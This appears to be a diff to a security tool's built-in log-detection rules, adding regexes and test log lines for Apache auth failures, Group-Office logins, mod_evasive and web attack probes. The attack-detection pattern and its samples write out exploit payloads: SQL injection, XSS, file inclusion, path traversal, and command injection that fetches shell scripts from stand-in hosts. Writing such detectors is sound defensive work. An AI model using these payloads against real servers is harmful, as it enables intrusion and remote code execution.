@@ -271,7 +271,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?user [`'\"]?(?<user>[^`'\"]{0,256}?)[`'\"]?(?:: password mismatch| in realm [`'\"][^`'\"]{0,256}[`'\"] not found): ",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?user [`'\"]?(?<user>[^`'\"]{0,256}?)[`'\"]?(?:: password mismatch| in realm [`'\"][^`'\"]{0,256}[`'\"] (?:not found|denied by provider)): ",
         "category": [
           "Access.Forced"
         ],
@@ -315,6 +315,21 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42.1 2013] [auth_digest:error] [pid 9] [client 192.0.2.81:99] AH01791: user `mallory' in realm `private' denied by provider: /secret",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.81"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "mallory"
+                }
+              ]
+            }
           }
         ]
       },
@@ -323,7 +338,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?client used wrong authentication scheme: (?<uri>\\S{0,2048})",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?client used wrong authentication scheme(?: `[^' ]{0,64}')?: (?<uri>\\S{0,2048})",
         "category": [
           "Access.Forced"
         ],
@@ -346,6 +361,30 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42 2013] [error] [client 192.0.2.79] Digest: client used wrong authentication scheme `Basic': /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.79"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 02:17:42.5 2013] [auth_digest:error] [pid 12] [client 192.0.2.80:4711] AH01781: client used wrong authentication scheme `Basic': /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.80",
+                  "Port": [
+                    4711
+                  ]
+                }
+              ]
             }
           }
         ]
@@ -536,7 +575,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
         "category": [
           "Recon.Network"
         ],
@@ -602,6 +641,46 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:debug] [pid 77] protocol.c(1234): [client 192.0.2.89:3333] AH03445: HTTP Request Line; Invalid method token: '\\x16\\x03\\x01'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.89"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:debug] [pid 77] [client 192.0.2.90:3333] AH02418: HTTP Request Line; Unrecognized protocol 'HTTP/1.1x' (perhaps whitespace was injected?)",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.90"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:info] [pid 77] [client 192.0.2.91:3333] AH00561: Request header exceeds LimitRequestFieldSize: Cookie",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.91"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:info] [pid 77] [client 192.0.2.92:3333] AH02429: Request header field name is malformed: X-(){",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.92"
                 }
               ]
             }
@@ -851,19 +930,18 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "requires": "authorization failure for ",
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?user (?<user>[^:]{0,256}): authorization failure for \"(?<uri>[^\"]{0,2048})\"",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:user (?<user>[^:]{0,256}): authorization failure for \"(?<uri>[^\"]{0,2048})\"|access to (?<uri2>.{1,2048}?) failed, reason: user '(?<user2>[^']{0,256})' does not meet 'require'ments|Authorization of user (?<user3>.{0,256}?) to access (?<uri3>\\S{1,2048}) failed, reason: )",
         "category": [
           "Access.Unauthorized"
         ],
         "priority": "Low",
-        "description": "HTTP user {user} from {ip4}{ip6p}{ip6} is not authorized for {uri}",
+        "description": "HTTP user {user}{user2}{user3} from {ip4}{ip6p}{ip6} is not authorized for {uri}{uri2}{uri3}",
         "source": {
           "address": "{ip4}{ip6p}{ip6}",
           "port": "{port}{port6}"
         },
         "target": {
-          "user": "{user}",
+          "user": "{user}{user2}{user3}",
           "service": "http"
         },
         "samples": [
@@ -884,6 +962,37 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 "Access.Unauthorized"
               ],
               "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sun Aug 31 18:19:31 2008] [error] [client 192.0.2.87] access to /awstats/awstats.pl failed, reason: user 'ray' does not meet 'require'ments for user/valid-user to be allowed access",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.87"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "ray"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.88] Authorization of user bob to access /private failed, reason: user is not part of the 'require'ed group(s).",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.88"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
             }
           }
         ]
@@ -933,7 +1042,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?(?<what>realm mismatch|unknown algorithm|invalid nonce|uri mismatch|invalid qop|received invalid opaque|user [^:]{0,256}: nonce expired)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?:Digest: )?(?<what>realm mismatch|unknown algorithm|invalid nonce|uri mismatch|invalid qop|received invalid opaque|user [^:]{0,256}: nonce expired|missing user, realm, nonce, uri, digest, cnonce, or nonce_count|invalid uri <|invalid nc |Warning, possible replay attack)",
         "category": [
           "Access.Forced"
         ],
@@ -964,6 +1073,57 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.73"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.82] Digest: missing user, realm, nonce, uri, digest, cnonce, or nonce_count in authorization header: /private",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.82"
+                }
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.83] Digest: invalid uri <http://[::1/x> in Authorization header",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.83"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.84] Digest: Warning, possible replay attack: nonce-count check failed: 1 != 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.84"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08.2 2013] [auth_digest:error] [pid 7] [client 192.0.2.85:1000] AH01775: invalid nc zz received - not a number",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.85"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.86] Digest: invalid nonce abc received - length is not 52",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.86"
                 }
               ]
             }
@@ -1081,6 +1241,95 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                   "User": "bob"
                 }
               ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "apache.groupoffice-auth-failed",
+        "programs": [
+          "apache"
+        ],
+        "requires": "authentication failed for '",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:PHP [A-Za-z ]{1,20}: {1,2})?(?:\\[[^\\]]{1,64}\\] )?Password authentication failed for '(?<user>.{0,256}?)' from IP: '",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Group-Office login as {user} failed from {ip4}{ip6p}{ip6}",
+        "source": {
+          "address": "{ip4}{ip6p}{ip6}",
+          "port": "{port}{port6}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "groupoffice"
+        },
+        "samples": [
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:notice] [pid 77] [client 192.0.2.93:3333] Password authentication failed for 'admin' from IP: '192.0.2.93'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.93"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "groupoffice"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:notice] [pid 77] [client 192.0.2.94:3333] Password authentication failed for 'x' from IP: '6.6.6.6'' from IP: '6.6.6.6'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.94"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "apache.mod-evasive-blacklisted",
+        "programs": [
+          "mod_evasive",
+          "apache"
+        ],
+        "requires": "Blacklisting address ",
+        "pattern": "^Blacklisting address (?<ip>[0-9A-Fa-f:.]{2,45}): possible DoS attack\\.",
+        "category": [
+          "Availability.DoS"
+        ],
+        "priority": "Medium",
+        "description": "mod_evasive blacklisted {ip}: request flood (possible DoS attack)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "Jun  1 11:23:08 web mod_evasive[2345]: Blacklisting address 192.0.2.95: possible DoS attack.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.95"
+                }
+              ],
+              "Category": [
+                "Availability.DoS"
+              ],
+              "Priority": "Medium"
             }
           }
         ]
@@ -1791,6 +2040,96 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-groupoffice.yaml",
+    "rules": [
+      {
+        "id": "groupoffice.login-failed",
+        "programs": [
+          "groupoffice"
+        ],
+        "requires": "LOGIN FAILED for user: ",
+        "pattern": "^LOGIN FAILED for user: \"(?<user>.{0,256})\" from IP: (?<ip>[0-9A-Fa-f:.]{2,45})$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Group-Office login as {user} failed from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "groupoffice"
+        },
+        "samples": [
+          {
+            "line": "[2014-01-06 10:59:38]LOGIN FAILED for user: \"admin\" from IP: 192.0.2.160",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.160"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "groupoffice"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2014-01-06T10:59:38Z"
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:01][alice] LOGIN FAILED for user: \"bob\" from IP: 192.0.2.161",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.161"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:01]LOGIN FAILED for user: \"x\" from IP: 6.6.6.6\" from IP: 192.0.2.162",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.162"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[2014-01-06 9:05:02][alice] LOGIN SUCCESS for user: \"alice\" from IP: 192.0.2.161",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "groupoffice",
+      "aliases": [
+        "group-office"
+      ],
+      "description": "Group-Office info log",
+      "lines": [
+        {
+          "prefix": "^\\[(?<time>\\d{4}-\\d\\d-\\d\\d \\d{1,2}:\\d\\d:\\d\\d)\\](?:\\[[^\\]]{1,256}\\])? ?",
+          "time": "YYYY-MM-DD h:mm:ss"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-guacamole.yaml",
     "rules": [],
     "logformat": {
@@ -1948,7 +2287,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?=[^ \"]{0,4096}?(?<payload>\\$\\{jndi:|\\$%7[Bb]jndi|%24%7[Bb]jndi|/etc/passwd|/etc/shadow|%2[Ff]etc%2[Ff]passwd|\\.\\./\\.\\./|\\.\\.%2[Ff]\\.\\.|%2[Ee]%2[Ee]%2[Ff]|%2[Ee]%2[Ee]/|\\.%2[Ee]/|[Uu][Nn][Ii][Oo][Nn](?:\\+|%20|/\\*\\*/)(?:[Aa][Ll][Ll](?:\\+|%20))?[Ss][Ee][Ll][Ee][Cc][Tt]|<script|%3[Cc]script|eval-stdin\\.php|cmd\\.exe|/bin/sh|\\bwget(?:\\+|%20)http|\\bcurl(?:\\+|%20)http|%252[Ee]%252[Ee]|\\.\\.%5[Cc]|win\\.ini|boot\\.ini|/proc/self/environ|php://(?:input|filter)|php%3[Aa]%2[Ff]%2[Ff]|data://text|expect://|file:///|file%3[Aa]%2[Ff]%2[Ff]%2[Ff]|(?:'|%27)(?:\\+|%20)(?:[Oo][Rr]|[Aa][Nn][Dd])(?:\\+|%20)|(?:\\+|%20)[Oo][Rr](?:\\+|%20)\\d{1,5}=\\d{1,5}|[Ss][Ll][Ee][Ee][Pp](?:\\(|%28)\\d|[Bb][Ee][Nn][Cc][Hh][Mm][Aa][Rr][Kk](?:\\(|%28)|[Ii][Nn][Ff][Oo][Rr][Mm][Aa][Tt][Ii][Oo][Nn]_[Ss][Cc][Hh][Ee][Mm][Aa]|[Ww][Aa][Ii][Tt][Ff][Oo][Rr](?:\\+|%20)[Dd][Ee][Ll][Aa][Yy]|@@version|%40%40version|[Cc][Oo][Nn][Cc][Aa][Tt](?:\\(|%28)0x|extractvalue(?:\\(|%28)|updatexml(?:\\(|%28)|(?:<|%3[Cc])(?:svg|iframe|img|body)(?:/|%2[Ff]|%20|\\+)|javascript(?::|%3[Aa])|alert(?:\\(|%28)|document\\.cookie|on(?:error|load)(?:=|%3[Dd])|(?:;|%3[Bb]|\\||%7[Cc]|`|%60)(?:wget|curl|uname|chmod|busybox|bash)(?:\\+|%20|%3[Bb]|;)|\\$\\((?:wget|curl)|%24%28(?:wget|curl)|\\$\\{IFS\\}|%24%7[Bb]IFS|invokefunction|call_user_func_array|allow_url_include|auto_prepend_file|base64_decode(?:\\(|%28)|class\\.module\\.classLoader|%\\{\\(#|%25%7[Bb]%28%23|\\$\\{\\(#|%24%7[Bb]%28%23|\\.\\./vpns/|/mgmt/tm/util/bash|autodiscover\\.json(?:\\?|%3[Ff])@|element_parents=account|connector\\.minimal\\.php|GponForm/diag_Form|setup\\.cgi\\?next_file=|/bin/busybox|XDEBUG_SESSION_START|vropspluginui/rest/services))(?<path>[^ \"]{1,4096}) HTTP/\\d\\.\\d\" (?<status>\\d{3}) ",
         "category": [
           "Access.Other"
         ],
@@ -2018,6 +2357,155 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "198.51.100.32 - - [01/Feb/2024:08:00:00 +0000] \"GET /etc/passwords-policy.html HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.33 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.33"
+                }
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "198.51.100.34 - - [01/Feb/2024:08:00:00 +0000] \"GET /p?id=1+or+1=1-- HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.34"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.35 - - [01/Feb/2024:08:00:00 +0000] \"GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.35"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.36 - - [01/Feb/2024:08:00:00 +0000] \"GET /?x=%3Csvg/onload=alert(1)%3E HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.36"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.37 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.38 - - [01/Feb/2024:08:00:00 +0000] \"GET /download?file=..%5c..%5cwindows%5cwin.ini HTTP/1.1\" 400 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.38"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.39 - - [01/Feb/2024:08:00:00 +0000] \"GET /cgi-bin/ping?host=127.0.0.1;wget+http://198.51.100.200/x.sh HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.39"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.40 - - [01/Feb/2024:08:00:00 +0000] \"GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.40"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.41 - - [01/Feb/2024:08:00:00 +0000] \"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.201/bins.sh HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.41"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.44 - - [01/Feb/2024:08:00:00 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.44"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.45 - - [01/Feb/2024:08:00:00 +0000] \"POST /mgmt/tm/util/bash HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.45"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.46 - - [01/Feb/2024:08:00:00 +0000] \"GET /autodiscover/autodiscover.json?@example.com/owa/?&Email=autodiscover/autodiscover.json%3F@example.com HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.46"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.47 - - [01/Feb/2024:08:00:00 +0000] \"GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/ HTTP/1.1\" 404 900 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.47"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.48 - - [01/Feb/2024:08:00:00 +0000] \"POST /GponForm/diag_Form?images/ HTTP/1.1\" 404 900 \"-\" \"Hello, World\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "198.51.100.48"
+                }
+              ]
+            }
+          },
+          {
+            "line": "198.51.100.42 - - [01/Feb/2024:08:00:00 +0000] \"GET /search?q=rock+and+roll HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
+            "line": "198.51.100.43 - - [01/Feb/2024:08:00:00 +0000] \"GET /blog/how-to-sleep-better?ref=or HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\"",
             "expect": null
           }
         ]
@@ -2301,7 +2789,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "http-access"
         ],
-        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) [^ ]{1,64} [^ ]{1,256} \\[[^\\]]{1,40}\\] \"(?<method>[A-Z]{3,10}) (?<path>(?:/[^ \"/]{0,128}){0,6}/(?:\\.env|\\.git/|\\.aws/|\\.ssh/|\\.DS_Store|\\.svn/|wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma/|myadmin|mysqladmin|HNAP1|boaform|GponForm|cgi-bin/|actuator/|solr/|manager/html|owa/auth|_ignition|vendor/phpunit|setup\\.cgi|shell\\?|w00tw00t\\.|wp-content/|wp-includes/|wordpress/|\\.htaccess|\\.htpasswd|\\.vscode/|\\.idea/|\\.docker|server-status|jmx-console|invoker/|web-console|axis2|telescope|druid/|nacos/|hudson|remote/fgt_lang|api/jsonws|mgmt/tm/|dana-na/|\\+CSCOE\\+|cgi-bin/luci|Telerik\\.Web\\.UI|nmaplowercheck|evox/about|console/)[^ \"]{0,2048}) HTTP/\\d\\.\\d\" (?<status>4\\d\\d) ",
         "category": [
           "Recon.Network"
         ],
@@ -2343,6 +2831,54 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             "expect": null
           },
           {
+            "line": "www.example.com:443 203.0.113.80 - - [10/Oct/2023:13:55:36 +0000] \"GET /.env HTTP/1.1\" 404 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.80"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ],
+              "Priority": "Low"
+            }
+          },
+          {
+            "line": "example.org 203.0.113.81 - - [10/Oct/2023:13:55:36 +0000] \"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1\" 404 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.81"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.82 - - [10/Oct/2023:13:55:36 +0000] \"GET /server-status HTTP/1.1\" 403 209 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.82"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.83 -  -  [13/Jun/2017:15:44:57 +0200] \"GET /.git/config HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "203.0.113.83"
+                }
+              ]
+            }
+          },
+          {
+            "line": "203.0.113.84 -  -  [13/Jun/2017:15:44:57 +0200] \"GET /rest/items HTTP/1.1\" 200 1234 \"-\" \"Mozilla/5.0\"",
+            "expect": null
+          },
+          {
             "line": "198.51.100.74 - - [02/Mar/2024:11:11:11 +0000] \"GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1\" 400 226 \"-\" \"-\"",
             "expect": {
               "Source": [
@@ -2351,6 +2887,107 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Low"
+            }
+          }
+        ]
+      },
+      {
